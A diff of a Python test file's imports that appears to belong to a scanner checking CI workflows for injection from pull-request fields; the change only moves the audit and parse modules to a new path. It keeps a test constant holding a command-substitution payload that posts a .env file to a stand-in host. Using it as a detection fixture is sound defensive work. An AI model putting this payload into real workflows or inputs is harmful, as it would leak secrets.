@@ -10,9 +10,9 @@ import pytest
 from repo_paths import SAMPLES
 
 from app_relay.decide.hits import PullText, RuleContext
-from cujo_action.checks.workflow_audit import injections, pr_sinks
-from cujo_action.checks.workflow_parse import parse
 from cujo_action.schema import PR_FIELDS, pr_sink
+from cujo_action.workflow.audit import injections, pr_sinks
+from cujo_action.workflow.parse import parse
 
 HOSTILE = "$({curl,-d,@.env,x.test})"
 
